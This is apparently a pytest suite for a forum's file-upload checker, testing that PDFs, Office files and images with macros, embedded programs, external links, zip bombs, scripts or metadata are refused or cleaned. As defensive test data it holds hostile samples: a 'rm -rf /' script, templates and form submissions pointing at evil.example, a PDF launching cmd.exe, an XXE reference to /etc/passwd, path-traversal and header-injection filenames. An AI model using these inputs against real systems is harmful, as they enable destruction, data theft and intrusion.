import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from forum.writing.attachments import MAX_FILE_BYTES, FileKind, FileNotAccepted, accept_file
from tests.factories.files import (
    EXCEL,
    POWERPOINT,
    WORD,
    archive,
    huge_png,
    links,
    noise,
    office,
    packed,
    pdf,
    photograph,
    picture,
)

pytestmark = pytest.mark.embedded


def accepted_kind(content: bytes, name: str = "file.pdf") -> FileKind:
    return accept_file(io.BytesIO(content), name).kind


def refused(content: bytes, name: str = "file.pdf") -> str:
    with pytest.raises(FileNotAccepted) as refusal:
        accept_file(io.BytesIO(content), name)
    return str(refusal.value)


# --- what is taken --------------------------------------------------------------------------------

HONEST = {
    FileKind.PDF: pdf(),
    FileKind.DOCX: office(WORD),
    FileKind.XLSX: office(EXCEL),
    FileKind.PPTX: office(POWERPOINT),
    FileKind.PNG: noise("PNG"),
    FileKind.JPEG: noise("JPEG"),
}


@pytest.mark.parametrize("kind", HONEST)
def test_honest_files_are_taken(kind: FileKind) -> None:
    accepted = accept_file(io.BytesIO(HONEST[kind]), f"What we did.{kind}")
    assert accepted.kind == kind
    assert accepted.name == f"What we did.{kind}"
    assert accepted.safe_name == f"What-we-did.{kind}"
    assert accepted.size == len(accepted.content)
    assert accepted.sha256 == hashlib.sha256(accepted.content).hexdigest()
    if kind not in (FileKind.PNG, FileKind.JPEG):
        assert accepted.content == HONEST[kind]


@pytest.mark.parametrize("kind", HONEST)
def test_the_content_and_not_the_name_says_what_it_is(kind: FileKind) -> None:
    accepted = accept_file(io.BytesIO(HONEST[kind]), "invoice.exe")
    assert accepted.kind == kind
    assert accepted.safe_name == f"invoice.{'jpg' if kind == FileKind.JPEG else kind}"


def test_usual_parts_of_office_files_are_taken() -> None:
    sheet = office(EXCEL)
    assert (
        accepted_kind(
            office(
                POWERPOINT,
                {
                    "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": sheet,
                    "ppt/media/image1.svg": b"<svg/>",
                    "ppt/media/image2.emf": b"\0" * 100,
                    "ppt/slides/_rels/slide1.xml.rels": links(
                        ("hyperlink", "https://www.england.nhs.uk/", True),
                        ("hyperlink", "mailto:a@b.example", True),
                        ("image", "../media/image2.emf", False),
                    ),
                    "docProps/thumbnail.jpeg": picture("JPEG"),
                },
            )
        )
        == FileKind.PPTX
    )
    assert (
        accepted_kind(office(EXCEL, {"xl/printerSettings/printerSettings1.bin": b"\0\1"}))
        == FileKind.XLSX
    )
    # Written by Word for every document made from a template on its author's own computer.
    local = links(("attachedTemplate", "file:///C:\\Users\\a\\Report.dotx", True))
    assert accepted_kind(office(WORD, {"word/_rels/settings.xml.rels": local})) == FileKind.DOCX
    assert accepted_kind(office(WORD, packing=zipfile.ZIP_STORED)) == FileKind.DOCX


def test_packed_objects_of_a_pdf_are_taken() -> None:
    assert (
        accepted_kind(pdf(packed(b"<< /Type /Page >>"), packed(b"<< /Type /Font >>")))
        == FileKind.PDF
    )


# --- size -----------------------------------------------------------------------------------------


def test_ten_megabytes_and_no_byte_more() -> None:
    nearly = pdf(b"(" + b"x" * (MAX_FILE_BYTES - 1_000) + b")")
    most = nearly.replace(b"(", b"(" + b"x" * (MAX_FILE_BYTES - len(nearly)), 1)
    assert len(most) == MAX_FILE_BYTES
    assert accepted_kind(most) == FileKind.PDF
    assert "larger than 10 MB" in refused(most.replace(b"(", b"(x", 1))


def test_nothing_is_refused() -> None:
    assert "empty" in refused(b"")


def test_the_position_of_the_reader_does_not_matter() -> None:
    file = io.BytesIO(HONEST[FileKind.PDF])
    file.read()
    assert accept_file(file, "a.pdf").content == HONEST[FileKind.PDF]


# --- what is refused ------------------------------------------------------------------------------

OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
OTHERS = {
    "program for Windows": b"MZ\x90\0" + b"\0" * 100,
    "program for Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 100,
    "program for Macs": b"\xcf\xfa\xed\xfe" + b"\0" * 100,
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "drawing with a script": b"<?xml version='1.0'?><svg><script>alert(1)</script></svg>",
    "page": b"<!DOCTYPE html><script>alert(1)</script>",
    "GIF": picture("GIF"),
    "BMP": picture("BMP"),
    "TIFF": picture("TIFF"),
    "WebP": picture("WEBP"),
    "rich text": b"{\\rtf1\\ansi}",
    "plain text": b"just words",
    "figures": b"month,waiting\n2025-12,7199624\n",
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "RAR": b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 100,
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
    "zeros": b"\0" * 1000,
    "spaces before a PDF": b"\n\n" + pdf(),
    "half a signature": b"\x89PNG",
}


@pytest.mark.parametrize("name", OTHERS)
@pytest.mark.parametrize("ending", ["pdf", "docx", "png", "svg"])
def test_everything_else_is_refused_whatever_its_name(name: str, ending: str) -> None:
    assert "You can attach PDF, Word" in refused(OTHERS[name], f"file.{ending}")


def test_old_or_protected_office_files_are_refused() -> None:
    assert "password" in refused(OLD_OFFICE, "old.doc")


def test_another_archive_is_refused() -> None:
    assert "is an archive" in refused(archive({"run.exe": b"MZ"}), "letter.docx")
    assert "not a Word, Excel or PowerPoint" in refused(
        archive({"[Content_Types].xml": b"<Types/>", "a.xml": b"<a/>"}), "letter.docx"
    )


# --- office files ---------------------------------------------------------------------------------

MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACROS = {
    "a project": office(WORD, {"word/vbaProject.bin": b"\0"}),
    "in capitals": office(WORD, {"word/VBAPROJECT.BIN": b"\0"}),
    "its data": office(WORD, {"word/vbaData.xml": b"<a/>"}),
    "a macro type": office(MACRO_WORD),
    "a macro type beside": office(WORD, overrides={"word/x.xml": MACRO_WORD}),
    "a renamed project": office(
        WORD,
        {"word/harmless.bin": b"\0"},
        {"word/harmless.bin": "application/vnd.ms-office.vbaProject"},
    ),
    "an old macro sheet": office(
        EXCEL,
        {"xl/macrosheets/sheet1.xml": b"<a/>"},
        {"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
    ),
    "a link to a project": office(
        WORD, {"word/_rels/document.xml.rels": links(("vbaProject", "harmless.bin", False))}
    ),
    "in a workbook inside": office(
        POWERPOINT, {"ppt/embeddings/a.xlsx": office(EXCEL, {"xl/vbaProject.bin": b"\0"})}
    ),
}
OBJECTS = {
    "an object": office(WORD, {"word/embeddings/oleObject1.bin": b"\0"}),
    "a program": office(WORD, {"word/media/run.exe": b"MZ"}),
    "a script": office(WORD, {"word/run.js": b"1"}),
    "a page": office(WORD, {"word/afchunk.html": b"<script>"}),
    "a control's link": office(
        WORD, {"word/_rels/document.xml.rels": links(("control", "control1.xml", False))}
    ),
    "two workbooks deep": office(
        POWERPOINT,
        {"ppt/embeddings/a.xlsx": office(EXCEL, {"xl/embeddings/b.xlsx": office(EXCEL)})},
    ),
}
OUTSIDE = {
    "a template": ("attachedTemplate", "https://evil.example/t.dotm"),
    "a template on a share": ("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
    "an object elsewhere": ("image", "https://evil.example/pixel.png"),
    "a frame": ("frame", "https://evil.example/"),
    "another workbook": ("externalLinkPath", "https://evil.example/a.xlsx"),
}


@pytest.mark.parametrize("name", MACROS)
def test_macros_are_refused(name: str) -> None:
    assert "macros" in refused(MACROS[name], "plan.docx")


@pytest.mark.parametrize("name", OBJECTS)
def test_files_inside_files_are_refused(name: str) -> None:
    assert "other files or programs inside" in refused(OBJECTS[name], "plan.docx")


@pytest.mark.parametrize("name", OUTSIDE)
def test_what_is_fetched_from_elsewhere_is_refused(name: str) -> None:
    kind, target = OUTSIDE[name]
    parts = {"word/_rels/settings.xml.rels": links((kind, target, True))}
    assert "from another place" in refused(office(WORD, parts), "plan.docx")


def test_links_are_read_whatever_their_encoding() -> None:
    plain = links(("attachedTemplate", "https://evil.example/t.dotm", True)).decode()
    parts = {
        "word/_rels/settings.xml.rels": ('<?xml version="1.0" encoding="UTF-16"?>' + plain).encode(
            "utf-16"
        )
    }
    assert "from another place" in refused(office(WORD, parts))


def test_a_document_type_is_refused() -> None:
    bomb = (
        b'<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><Relationships>&c;</Relationships>'
    )
    assert "damaged" in refused(office(WORD, {"word/_rels/settings.xml.rels": bomb}))
    outside = b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><Relationships/>'
    assert "damaged" in refused(office(WORD, {"word/_rels/settings.xml.rels": outside}))


def test_zip_bombs_are_refused() -> None:
    archive = office(WORD, {"word/media/a.bin": b"\0" * 9_000_000})
    assert len(archive) < 20_000
    assert "unpacks to far more" in refused(archive)
    # Each part packs no more than an honest one does, but there are very many.
    random = hashlib.shake_256(b"x").digest(30_000)
    part = b"".join(random[n : n + 30] + b"\0" * 1_970 for n in range(0, 30_000, 30))
    many = office(WORD, {f"word/media/{n}.bin": part for n in range(105)})
    assert len(many) < MAX_FILE_BYTES
    assert "unpacks to far more" in refused(many)
    assert "unpacks to far more" in refused(office(WORD, {f"word/{n}": b"" for n in range(5_001)}))
    sheet = office(EXCEL, {"xl/a.bin": b"\0" * 9_000_000})
    assert "unpacks to far more" in refused(office(POWERPOINT, {"ppt/embeddings/a.xlsx": sheet}))


def test_an_archive_that_lies_about_sizes_is_refused() -> None:
    content = bytearray(office(WORD, {"word/media/a.bin": b"\0" * 9_000_000}))
    # The size unpacked, in both of the places where an archive gives it.
    true = struct.pack("<I", 9_000_000)
    while (at := content.find(true)) >= 0:
        content[at : at + 4] = struct.pack("<I", 1_000)
    assert "damaged" in refused(bytes(content))


def test_parts_that_lie_over_each_other_are_refused() -> None:
    content = bytearray(office(WORD))
    first, second = _central_entries(content)[:2]
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    assert "damaged" in refused(bytes(content))


def _central_entries(content: bytearray) -> list[int]:
    positions, at = [], content.find(b"PK\x01\x02")
    while at >= 0:
        positions.append(at)
        at = content.find(b"PK\x01\x02", at + 4)
    return positions


def test_protected_parts_are_refused() -> None:
    content = bytearray(office(WORD))
    for entry in _central_entries(content):
        content[entry + 8] |= 1
    assert "password" in refused(bytes(content))


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", "word\\evil.xml"])
def test_names_that_lead_out_are_refused(name: str) -> None:
    content = office(WORD, {name.replace("\\", "~"): b"<a/>"}).replace(b"~", b"\\")
    assert "damaged" in refused(content)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    archive = io.BytesIO(office(WORD))
    with zipfile.ZipFile(archive, "a") as made:
        made.writestr("WORD/document.xml", b"<other/>")
    assert "damaged" in refused(archive.getvalue())


# --- two things at once ---------------------------------------------------------------------------


def test_a_picture_that_is_an_archive_too_is_only_a_picture_afterwards() -> None:
    for form in ("PNG", "JPEG"):
        both = picture(form) + archive({"run.exe": b"MZ"})
        assert zipfile.is_zipfile(io.BytesIO(both))
        stored = accept_file(io.BytesIO(both), "a.png").content
        assert not zipfile.is_zipfile(io.BytesIO(stored))
        assert b"MZ" not in stored


def test_other_files_of_two_kinds_are_refused() -> None:
    assert "other files inside" in refused(pdf() + archive({"run.exe": b"MZ"}) + b"%%EOF")
    assert "damaged" in refused(office(WORD) + pdf())
    assert "damaged" in refused(office(WORD) + b"<script>alert(1)</script>")
    # Readers of PDF look for its beginning in the first thousand bytes.
    first = {"a": pdf()} | _parts(office(WORD))
    assert "damaged" in refused(archive(first, zipfile.ZIP_STORED))
    commented = io.BytesIO()
    with zipfile.ZipFile(commented, "w") as made:
        made.comment = b"%PDF-1.7 and more"
        for name, content in _parts(office(WORD)).items():
            made.writestr(name, content)
    assert "damaged" in refused(commented.getvalue())


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


# --- PDF files ------------------------------------------------------------------------------------

ACTING = {
    "a script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "a script without spaces": b"<</S/JavaScript/JS(app.alert(1))>>",
    "a script in codes": b"<< /S /J#61vaScript /JS (1) >>",
    "a script all in codes": b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (1) >>",
    "another program": b"<< /S /Launch /F (cmd.exe) >>",
    "a file": b"<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream",
    "names of files": b"<< /EmbeddedFiles 9 0 R >>",
    "media": b"<< /Subtype /RichMedia >>",
    "a form that runs": b"<< /XFA [] >>",
    "a form that sends": b"<< /S /SubmitForm /F (https://evil.example) >>",
}


@pytest.mark.parametrize("name", ACTING)
def test_what_acts_in_a_pdf_is_refused(name: str) -> None:
    assert "Print it to a new PDF" in refused(pdf(ACTING[name]))


@pytest.mark.parametrize("name", ACTING)
def test_what_acts_is_found_where_it_is_packed(name: str) -> None:
    assert "Print it to a new PDF" in refused(pdf(packed(ACTING[name])))


def test_what_cannot_be_looked_into_is_refused() -> None:
    script = ACTING["a script"]
    in_hex = packed(b"", data=zlib.compress(script.hex().encode())).replace(
        b"/FlateDecode", b"[/FlateDecode /ASCIIHexDecode]"
    )
    strange = [
        in_hex,
        packed(script).replace(b"/FlateDecode", b"/LZWDecode"),
        packed(script).replace(b"/Filter /FlateDecode", b"/Filter 9 0 R"),
        packed(script, b"/DecodeParms << /Predictor 12 /Columns 4 >>"),
        packed(script, data=b"not packed at all"),
        packed(script, data=zlib.compress(script)[:-8]),
        packed(b"x" * 70_000_000),
        packed(script).replace(b"stream", b"strm"),
        packed(script, b"% >> stream\n"),
    ]
    for stream in strange:
        assert "cannot be checked" in refused(pdf(stream)), stream[:200]


def test_a_protected_pdf_is_refused() -> None:
    assert "password" in refused(pdf(trailer=b"/Encrypt 9 0 R"))


def test_words_that_only_look_like_actions_pass() -> None:
    assert (
        accepted_kind(pdf(b"(We use JavaScript and a Launch event)", b"<< /LaunchDate 1 >>"))
        == FileKind.PDF
    )


# --- pictures -------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_photograph_loses_where_it_was_taken(form: str) -> None:
    before = photograph(form)
    assert b"Ann Smith" in before
    with Image.open(io.BytesIO(before)) as opened:
        assert opened.getexif().get_ifd(0x8825)[2] == (53.0, 40.0, 59.0)
        assert opened.size == (40, 20)
    stored = accept_file(io.BytesIO(before), "photo.jpg").content
    assert b"Ann Smith" not in stored
    assert b"Maker" not in stored
    assert b"Exif" not in stored
    with Image.open(io.BytesIO(stored)) as opened:
        assert dict(opened.getexif()) == {}
        assert opened.format == form
        # The camera was held upright: the picture is turned, since the note that says so is gone.
        assert opened.size == (20, 40)


def test_words_and_profiles_beside_a_picture_go() -> None:
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Author", "Ann Smith")
    words.add_itxt("XML:com.adobe.xmp", "<x>Ann Smith</x>")
    stored = accept_file(
        io.BytesIO(picture("PNG", pnginfo=words, icc_profile=b"profile")), "a"
    ).content
    assert b"Ann Smith" not in stored
    assert {name for name, _ in _chunks(stored)} <= {b"IHDR", b"IDAT", b"IEND"}
    stored = accept_file(
        io.BytesIO(picture("JPEG", comment=b"Ann Smith", icc_profile=b"profile")), "a"
    ).content
    assert b"Ann Smith" not in stored
    assert b"ICC_PROFILE" not in stored


def _chunks(content: bytes) -> list[tuple[bytes, bytes]]:
    chunks, at = [], 8
    while at < len(content):
        (length,) = struct.unpack(">I", content[at : at + 4])
        chunks.append((content[at + 4 : at + 8], content[at + 8 : at + 8 + length]))
        at += 12 + length
    return chunks


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pictures_of_every_depth_stay_as_they_are(mode: str) -> None:
    with Image.open(
        io.BytesIO(accept_file(io.BytesIO(picture("PNG", mode=mode)), "a").content)
    ) as opened:
        assert opened.mode == mode
        assert opened.size == (40, 20)


def test_transparency_stays() -> None:
    drawn = picture("PNG", mode="P", transparency=0)
    with Image.open(io.BytesIO(accept_file(io.BytesIO(drawn), "a.png").content)) as opened:
        assert opened.info == {"transparency": 0}


def test_colours_for_print_become_colours_for_screens() -> None:
    with Image.open(
        io.BytesIO(accept_file(io.BytesIO(picture("JPEG", mode="CMYK")), "a").content)
    ) as opened:
        assert opened.mode == "RGB"


@pytest.mark.parametrize("size", [(60_000, 60_000), (20_001, 1), (6_000, 5_001)])
def test_a_picture_that_unpacks_to_too_much_is_refused(size: tuple[int, int]) -> None:
    bomb = huge_png(*size)
    assert len(bomb) < 500
    message = refused(bomb)
    assert "too many" in message or "damaged" in message


def test_a_moving_picture_stands_still() -> None:
    animation = io.BytesIO()
    frames = [Image.new("RGB", (5, 5), (n * 50, 0, 0)) for n in range(3)]
    frames[0].save(animation, format="PNG", save_all=True, append_images=frames[1:])
    still = accept_file(animation, "a.png").content
    with Image.open(io.BytesIO(still)) as opened:
        assert getattr(opened, "n_frames", 1) == 1
    assert b"fdAT" not in still


# --- damage ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", HONEST)
@pytest.mark.parametrize("part", [0.2, 0.5, 0.9])
def test_files_that_were_cut_off_are_refused(kind: FileKind, part: float) -> None:
    whole = HONEST[kind]
    message = refused(whole[: int(len(whole) * part)])
    assert message.endswith((".", "files."))


@settings(max_examples=150)
@given(
    st.sampled_from(list(HONEST)),
    st.lists(st.tuples(st.floats(0, 0.999), st.integers(0, 255)), min_size=1, max_size=8),
)
def test_damage_of_any_kind_never_fails_otherwise(
    kind: FileKind, changes: list[tuple[float, int]]
) -> None:
    content = bytearray(HONEST[kind])
    for place, byte in changes:
        content[int(place * len(content))] = byte
    try:
        accept_file(io.BytesIO(bytes(content)), "a")
    except FileNotAccepted as message:
        assert str(message).endswith(".")


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "name", "safe"),
    [
        ("report.pdf", "report.pdf", "report.pdf"),
        ("REPORT.PDF", "REPORT.PDF", "REPORT.pdf"),
        ("C:\\Users\\ann\\Résumé 1.pdf", "Résumé 1.pdf", "Resume-1.pdf"),
        ("../../etc/passwd", "passwd", "passwd.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe", "invoicefdp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf", "aSet-Cookie-x.pdf"),
        ('x";y=<b>.pdf', 'x";y=<b>.pdf', "x-y-b.pdf"),
        ("", "file without a name", "file-without-a-name.pdf"),
        (".pdf", ".pdf", "file.pdf"),
        ("報告.pdf", "報告.pdf", "file.pdf"),
        ("con.pdf", "con.pdf", "file-con.pdf"),
        ("Section 2.1 results", "Section 2.1 results", "Section-2-1-results.pdf"),
        ("photo.exe.pdf", "photo.exe.pdf", "photo-exe.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf", "x" * 80 + ".pdf"),
    ],
)
def test_names(typed: str, name: str, safe: str) -> None:
    accepted = accept_file(io.BytesIO(HONEST[FileKind.PDF]), typed)
    assert accepted.name == name
    assert accepted.safe_name == safe


@given(st.text(max_size=300))
def test_names_are_always_fit_to_be_sent(typed: str) -> None:
    accepted = accept_file(io.BytesIO(HONEST[FileKind.PDF]), typed)
    assert 0 < len(accepted.name) <= 200
    assert accepted.safe_name.isascii()
    assert accepted.safe_name.endswith(".pdf")
    assert len(accepted.safe_name) <= 90
    assert set(accepted.safe_name) <= set(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-."
    )
